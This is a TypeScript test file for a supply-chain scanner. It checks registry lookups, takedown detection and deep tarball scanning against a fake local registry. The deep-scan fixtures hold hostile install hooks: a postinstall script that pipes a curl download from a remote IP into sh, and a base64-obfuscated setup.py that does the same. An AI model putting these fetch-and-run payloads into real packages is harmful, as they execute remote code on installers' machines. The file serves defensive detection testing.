// Online mode against a fake registry on loopback (src/testing/fake-registry.ts): no test here reaches the internet.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { scan } from '../api/scan.js';
import { main } from '../cli/main.js';
import { validateReport } from '../cli/validate-report.js';
import { npmTarball, packument, pypiDocument, sdist, sri, startFakeRegistry, type FakeRegistry } from '../testing/fake-registry.js';
import { checkIntegrity } from './deep.js';
import { npmRegistryUrl, pickNpmVersion } from './registry.js';
import { lookupRequests } from './index.js';

const NOW = new Date('2026-11-25T12:00:00.000Z');
const OLD = '2016-03-01T00:00:00.000Z';

function tree(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'lurescan-online-'));
  for (const [p, text] of Object.entries(files)) writeFileSync(join(dir, p), text);
  return dir;
}

function io() {
  const out = { stdout: '', stderr: '' };
  return {
    out,
    io: {
      stdout: { write: (s: string) => ((out.stdout += s), true), isTTY: false, columns: 100 },
      stderr: { write: (s: string) => ((out.stderr += s), true), isTTY: false },
      stdin: process.stdin,
      env: { NO_COLOR: '1' },
    } as never,
  };
}

const byRule = (r: { findings: Array<{ ruleId: string }> }, prefix = 'dep-registry') => r.findings.filter((f) => f.ruleId.startsWith(prefix)).map((f) => f.ruleId).sort();

describe('scan --online (fake registry on loopback)', () => {
  let reg: FakeRegistry;
  const dirs: string[] = [];
  before(async () => {
    reg = await startFakeRegistry();
    reg.routes.set('/react', { body: packument('react', { '18.2.0': '2022-06-14T00:00:00.000Z', '18.3.1': '2024-04-26T00:00:00.000Z' }, { created: '2011-10-26T17:46:21.942Z' }) });
    reg.routes.set('/icon-fetch-cdn', { body: packument('icon-fetch-cdn', { '0.0.1-security': '2026-10-02T00:00:00.000Z' }) });
    reg.routes.set('/fresh-helper', { body: packument('fresh-helper', { '1.0.0': '2026-11-22T08:00:00.000Z', '1.0.1': '2026-11-23T08:00:00.000Z' }) });
    reg.routes.set('/child-proc-helper', { body: JSON.stringify({ _id: 'child-proc-helper', name: 'child-proc-helper', 'dist-tags': { latest: '1.0.2' }, versions: { '1.0.2': { name: 'child-proc-helper', version: '1.0.2', repository: { type: 'git', url: 'git+https://github.com/npm/security-holder.git' } } }, time: { '1.0.2': '2020-01-01T00:00:00.000Z' } }) });
    reg.routes.set('/icon-utils', { body: JSON.stringify({ ...JSON.parse(packument('icon-utils', { '1.0.1': OLD, '1.0.2': OLD })), time: { created: OLD, '1.0.1': OLD, '1.0.2': OLD, '1.0.3': '2019-05-05T00:00:00.000Z' } }) });
    reg.routes.set('/gone-lib', { body: JSON.stringify({ _id: 'gone-lib', name: 'gone-lib', 'dist-tags': {}, versions: {}, time: {} }) });
    reg.routes.set('/pypi/requests/json', { body: pypiDocument('requests', { '2.31.0': '2023-05-22T00:00:00Z', '2.32.3': '2024-05-29T00:00:00Z' }) });
    reg.routes.set('/flaky', { status: 500, body: 'oops' });
  });
  after(async () => {
    await reg.close();
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });

  it('flags missing, taken-down, removed and days-old dependencies; established ones stay clean; each name asked once', async () => {
    const dir = tree({
      'package.json': JSON.stringify({ name: 'take-home', dependencies: { react: '^18.2.0', 'icon-fetch-cdn': '^1.0.3', 'fresh-helper': '^1.0.0', 'acme-private-auth': '^2.0.0', 'gone-lib': '1.2.0', 'child-proc-helper': '^1.0.0', 'icon-utils': '1.0.3', 'local-ui': 'file:./ui' }, devDependencies: { react: '^18.2.0' } }, null, 2),
      'requirements.txt': 'requests==2.31.0\nsolana-wallet-tools>=0.3\n',
    });
    dirs.push(dir);
    reg.hits.length = 0;
    const r = await scan(dir, { threads: 0, online: { npmRegistry: reg.url, pypiUrl: reg.url, now: () => NOW } });
    assert.deepEqual(r.errors, []);
    assert.equal(r.incomplete, false);
    assert.deepEqual(byRule(r), ['dep-registry-missing', 'dep-registry-missing', 'dep-registry-recent', 'dep-registry-removed', 'dep-registry-removed', 'dep-registry-removed', 'dep-registry-removed']);
    const msg = (id: string) => r.findings.filter((f) => f.ruleId === id).map((f) => f.message).join('\n');
    assert.match(msg('dep-registry-missing'), /"acme-private-auth" does not exist on the npm registry/);
    assert.match(msg('dep-registry-missing'), /"solana-wallet-tools" does not exist on the PyPI registry/);
    assert.match(msg('dep-registry-removed'), /"icon-fetch-cdn" was taken down as malware/);
    assert.match(msg('dep-registry-removed'), /"gone-lib" has every version removed/);
    assert.match(msg('dep-registry-removed'), /"icon-utils" is pinned to version 1\.0\.3, which the npm registry no longer serves \(published 2019-05-05/);
    assert.match(msg('dep-registry-removed'), /"child-proc-helper" was taken down as malware: .*placeholder 1\.0\.2/);
    assert.match(msg('dep-registry-recent'), /"fresh-helper" was first published on the npm registry 3 days ago/);
    assert.equal(r.verdict, 'malicious');
    assert.deepEqual(validateReport(JSON.parse(JSON.stringify(r))), []);
    assert.equal(reg.hits.filter((h) => h === '/react').length, 1, 'react declared twice, looked up once');
    assert.ok(!reg.hits.some((h) => /local-ui/.test(h)), 'file: dependencies are not looked up');
  });

  it('offline by default: no request is made and the rules stay silent', async () => {
    const dir = tree({ 'package.json': JSON.stringify({ dependencies: { 'acme-private-auth': '^2.0.0' } }) });
    dirs.push(dir);
    reg.hits.length = 0;
    const r = await scan(dir, { threads: 0 });
    assert.deepEqual([reg.hits, byRule(r), r.incomplete], [[], [], false]);
  });

  it('workspace members (names a package.json in the tree declares) are not looked up', async () => {
    const dir = tree({ 'package.json': JSON.stringify({ name: 'shop-ui', dependencies: { 'shop-ui': '*' } }) });
    dirs.push(dir);
    reg.hits.length = 0;
    const r = await scan(dir, { threads: 0, online: { npmRegistry: reg.url, now: () => NOW } });
    assert.deepEqual([reg.hits, byRule(r)], [[], []]);
  });

  it('a registry error (HTTP 500, retried once) is a scan error: incomplete, never clean', async () => {
    const dir = tree({ 'package.json': JSON.stringify({ dependencies: { flaky: '^1.0.0' } }) });
    dirs.push(dir);
    reg.hits.length = 0;
    const r = await scan(dir, { threads: 0, online: { npmRegistry: reg.url, now: () => NOW } });
    assert.equal(r.incomplete, true);
    assert.match(r.errors[0]!.message, /could not look up npm package "flaky": GET http:\/\/127\.0\.0\.1:\d+\/flaky: HTTP 500/);
    assert.equal(reg.hits.filter((h) => h === '/flaky').length, 2);
  });

  it('an unreachable registry: exit 2 from the CLI with the reason', async () => {
    const closed = await startFakeRegistry();
    const url = closed.url;
    await closed.close();
    const dir = tree({ 'package.json': JSON.stringify({ dependencies: { react: '^18.2.0', lodash: '^4.17.21', axios: '^1.6.0' } }) });
    dirs.push(dir);
    const { out, io: cliIo } = io();
    const code = await main(['scan', dir, '--online', '--registry', url, '--threads', '0', '--no-progress', '--format', 'json'], cliIo);
    assert.equal(code, 2);
    const report = JSON.parse(out.stdout);
    assert.equal(report.incomplete, true);
    // One reason and one list per unreachable registry, not one error per package.
    assert.equal(report.errors.length, 2, JSON.stringify(report.errors));
    assert.match(report.errors[0].message, /the npm registry http:\/\/127\.0\.0\.1:\d+ could not be reached \(.*unreachable \(ECONNREFUSED\)\)/);
    assert.match(report.errors[1].message, /3 dependencies not looked up on the unreachable npm registry .*: (?=.*react)(?=.*lodash)(?=.*axios)/);
  });

  it('a registry that never answers times out', async () => {
    const slow = await startFakeRegistry({ '/react': () => {} });
    try {
      const dir = tree({ 'package.json': JSON.stringify({ dependencies: { react: '^18.2.0' } }) });
      dirs.push(dir);
      const r = await scan(dir, { threads: 0, online: { npmRegistry: slow.url, timeoutMs: 300, now: () => NOW } });
      assert.equal(r.incomplete, true);
      assert.match(r.errors[0]!.message, /no answer within/);
    } finally {
      await slow.close();
    }
  });

  it('a packument over the size limit is an established package with no age, not an error', async () => {
    const dir = tree({ 'package.json': JSON.stringify({ dependencies: { react: '^18.2.0' } }) });
    dirs.push(dir);
    const r = await scan(dir, { threads: 0, online: { npmRegistry: reg.url, maxDocumentBytes: 100, now: () => NOW } });
    assert.deepEqual([r.errors, byRule(r)], [[], []]);
  });

  it('check --online passes online mode to the code scan', async () => {
    const dir = tree({ 'package.json': JSON.stringify({ name: 'task', dependencies: { 'acme-private-auth': '^2.0.0' } }, null, 2), 'message.txt': 'Hi! Please run the project and fix the bug.\n' });
    dirs.push(dir);
    const { out, io: cliIo } = io();
    await main(['check', '--message', join(dir, 'message.txt'), '--target', dir, '--online', '--registry', reg.url, '--format', 'json'], cliIo);
    const report = JSON.parse(out.stdout);
    assert.ok(report.code.findings.some((f: { ruleId: string }) => f.ruleId === 'dep-registry-missing'), out.stdout.slice(0, 500) + out.stderr);
  });

  it('a manifest with more dependencies than the lookup cap: the rest are an error, not silently clean', async () => {
    const deps = Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`dep-${i}`, '^1.0.0']));
    const dir = tree({ 'package.json': JSON.stringify({ dependencies: { react: '^18.2.0', ...deps } }) });
    dirs.push(dir);
    const r = await scan(dir, { threads: 0, rules: { only: ['dep-registry-missing'] }, online: { npmRegistry: reg.url, maxLookups: 3, now: () => NOW } });
    assert.equal(r.incomplete, true);
    assert.match(r.errors.map((e) => e.message).join('\n'), /3 of 6 dependencies not looked up \(more than 3\)/);
    assert.equal(r.findings.length, 2, 'dep-0 and dep-1 were looked up and are missing');
  });

  it('bad option values are usage errors', async () => {
    const { out, io: cliIo } = io();
    assert.equal(await main(['scan', '.', '--online', '--registry', 'ftp://x'], cliIo), 2);
    assert.match(out.stderr, /--registry takes an http\(s\) URL/);
    const second = io();
    assert.equal(await main(['scan', '.', '--registry', 'http://127.0.0.1:1'], second.io), 2);
    assert.match(second.out.stderr, /need --online/);
  });
});

describe('scan --deep (dependency tarballs from the fake registry)', () => {
  let reg: FakeRegistry;
  const dirs: string[] = [];
  before(async () => {
    reg = await startFakeRegistry();
    const evil = await npmTarball({
      'package.json': JSON.stringify({ name: 'color-log-util', version: '1.0.2', scripts: { postinstall: 'node setup.js' } }, null, 2),
      'setup.js': "const { exec } = require('child_process');\nexec('curl -s http://45.61.160.12:1224/client/99 | sh');\n",
    });
    const good = await npmTarball({ 'package.json': JSON.stringify({ name: 'tiny-math', version: '2.0.0' }), 'index.js': 'module.exports = (a, b) => a + b;\n' });
    reg.routes.set('/color-log-util', { body: packument('color-log-util', { '1.0.1': OLD, '1.0.2': '2017-01-01T00:00:00.000Z' }, { registry: reg, tarballs: { '1.0.2': evil } }) });
    reg.routes.set('/tiny-math', { body: packument('tiny-math', { '2.0.0': OLD }, { registry: reg, tarballs: { '2.0.0': good } }) });
    // Integrity in the packument does not match the bytes served.
    reg.routes.set('/swapped', { body: packument('swapped', { '1.0.0': OLD }, { registry: reg, tarballs: { '1.0.0': good } }) });
    reg.routes.set('/swapped/-/swapped-1.0.0.tgz', { body: evil, type: 'application/octet-stream' });
  });
  after(async () => {
    await reg.close();
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });

  it("scans the version the range picks; findings sit under node_modules/<name>/ and name the dependency", async () => {
    const dir = tree({ 'package.json': JSON.stringify({ name: 'dex-dashboard', dependencies: { 'color-log-util': '^1.0.0', 'tiny-math': '2.0.0' } }, null, 2) });
    dirs.push(dir);
    const r = await scan(dir, { threads: 0, online: { npmRegistry: reg.url, deep: true, now: () => NOW } });
    assert.deepEqual(r.errors, []);
    const dep = r.findings.filter((f) => f.dependency);
    assert.ok(dep.length > 0, 'the dependency carries findings');
    for (const f of dep) {
      assert.equal(f.dependency, 'npm:color-log-util@1.0.2');
      assert.match(f.file, /^node_modules\/color-log-util\/(?:setup\.js|package\.json)$/);
      for (const i of f.iocs ?? []) assert.match(i.file, /^node_modules\/color-log-util\//);
    }
    assert.ok(dep.some((f) => f.file === 'node_modules/color-log-util/setup.js'), JSON.stringify(dep.map((f) => [f.ruleId, f.file])));
    assert.notEqual(r.verdict, 'clean');
    assert.ok(Object.keys(r.fileHashes ?? {}).some((k) => k.startsWith('node_modules/color-log-util/')));
    assert.deepEqual(validateReport(JSON.parse(JSON.stringify(r))), []);
    assert.ok(reg.hits.includes('/tiny-math/-/tiny-math-2.0.0.tgz'));
    assert.ok(!r.findings.some((f) => f.dependency?.includes('tiny-math')), 'the benign dependency adds nothing');
  });

  it('PyPI: the pinned release sdist is downloaded (SHA-256 checked) and scanned under site-packages/<name>/', async () => {
    const bytes = await sdist('colorama-plus', '0.4.7', {
      'setup.py': "import os, base64\nfrom setuptools import setup\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cDovLzQ1LjYxLjE2MC4xMjoxMjI0L3B5IHwgc2giKQ=='))\nsetup(name='colorama-plus', version='0.4.7')\n",
    });
    reg.routes.set('/pypi/colorama-plus/json', { body: pypiDocument('colorama-plus', { '0.4.6': OLD, '0.4.7': '2017-01-01T00:00:00Z' }, { registry: reg, sdists: { '0.4.7': bytes } }) });
    const dir = tree({ 'requirements.txt': 'colorama-plus==0.4.7\n' });
    dirs.push(dir);
    const r = await scan(dir, { threads: 0, online: { npmRegistry: reg.url, pypiUrl: reg.url, deep: true, now: () => NOW } });
    assert.deepEqual(r.errors, []);
    const dep = r.findings.filter((f) => f.dependency);
    assert.ok(dep.length > 0);
    for (const f of dep) assert.equal(f.dependency, 'pypi:colorama-plus==0.4.7');
    assert.ok(dep.some((f) => f.file === 'site-packages/colorama-plus/setup.py'), JSON.stringify(dep.map((f) => [f.ruleId, f.file])));
    assert.equal(r.verdict, 'malicious');
  });

  it('a dependency whose range matches no published version is reported as not scanned', async () => {
    const dir = tree({ 'package.json': JSON.stringify({ dependencies: { 'tiny-math': '^9.0.0' } }) });
    dirs.push(dir);
    const r = await scan(dir, { threads: 0, online: { npmRegistry: reg.url, deep: true, now: () => NOW } });
    assert.equal(r.incomplete, true);
    assert.match(r.errors.map((e) => e.message).join('\n'), /npm package "tiny-math" not scanned: no published version matches "\^9\.0\.0"/);
  });

  it('a tarball that does not match the packument integrity is not scanned: error, incomplete', async () => {
    const dir = tree({ 'package.json': JSON.stringify({ dependencies: { swapped: '1.0.0' } }) });
    dirs.push(dir);
    const r = await scan(dir, { threads: 0, online: { npmRegistry: reg.url, deep: true, now: () => NOW } });
    assert.equal(r.incomplete, true);
    assert.match(r.errors.map((e) => e.message).join('\n'), /integrity mismatch/);
    assert.ok(!r.findings.some((f) => f.dependency), 'nothing from the unverified tarball');
  });
});

describe('online helpers', () => {
  it('picks the version npm would install', () => {
    const versions = ['1.0.0', '1.2.0', '1.3.0-beta.1', '2.0.0'];
    assert.equal(pickNpmVersion('^1.0.0', versions, { latest: '2.0.0' }), '1.2.0');
    assert.equal(pickNpmVersion('*', versions, { latest: '1.2.0' }), '1.2.0');
    assert.equal(pickNpmVersion('', versions, { latest: '2.0.0' }), '2.0.0');
    assert.equal(pickNpmVersion('next', versions, { latest: '2.0.0', next: '1.3.0-beta.1' }), '1.3.0-beta.1');
    assert.equal(pickNpmVersion('^1.0.0', versions, { latest: '2.0.0' }, '1.0.0'), '1.0.0');
    assert.equal(pickNpmVersion('^3', versions, { latest: '2.0.0' }), undefined);
  });
  it('a direct dependency takes the locked copy its range allows (yarn lists every copy), package-lock top level first', () => {
    const yarnLock = '"debug@^2.6.9":\n  version "2.6.9"\n\n"debug@^4.3.4":\n  version "4.3.4"\n';
    const files = { 'package.json': JSON.stringify({ dependencies: { debug: '^4.1.0', left: '1.x' } }), 'yarn.lock': yarnLock };
    const view = { files: Object.keys(files).map((path) => ({ path })) as never, readText: (p: string) => (files as Record<string, string>)[p] ?? null };
    assert.deepEqual(lookupRequests(view).map((r) => [r.req.name, r.req.locked]), [['debug', '4.3.4'], ['left', undefined]]);
  });
  it('checks SRI integrity and legacy shasums', () => {
    const bytes = Buffer.from('package bytes');
    assert.deepEqual(checkIntegrity(bytes, { integrity: sri(bytes) }), { ok: true });
    assert.equal(checkIntegrity(bytes, { integrity: sri(Buffer.from('other')) }).ok, false);
    assert.deepEqual(checkIntegrity(bytes, { shasum: '2b5d0e3ba0d12f7e4a6e5a0c1b0c0ab0b1e2c9a3' }).ok, false);
    assert.equal(checkIntegrity(bytes, {}).ok, false);
  });
  it('registry URL: option, then npm config from the environment, then the public registry', () => {
    assert.equal(npmRegistryUrl({ npmRegistry: 'http://127.0.0.1:4873/' }, {}), 'http://127.0.0.1:4873');
    assert.equal(npmRegistryUrl({}, { npm_config_registry: 'https://npm.corp.example/' }), 'https://npm.corp.example');
    assert.equal(npmRegistryUrl({}, {}), 'https://registry.npmjs.org');
  });
});

describe('scan --online live', { skip: process.env.LURESCAN_NETWORK_TESTS === '1' ? false : 'set LURESCAN_NETWORK_TESTS=1 to query the real npm registry' }, () => {
  it('the public registry: an old package is quiet, a taken-down one and an unknown name are flagged', async () => {
    const dir = tree({ 'package.json': JSON.stringify({ name: 'live-check', dependencies: { 'left-pad': '^1.3.0', crossenv: '^1.0.0', 'lurescan-no-such-package-8d1f3c': '^1.0.0' } }, null, 2) });
    try {
      const r = await scan(dir, { threads: 0, online: { npmRegistry: 'https://registry.npmjs.org' } });
      assert.deepEqual(r.errors, []);
      assert.deepEqual(byRule(r), ['dep-registry-missing', 'dep-registry-removed']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
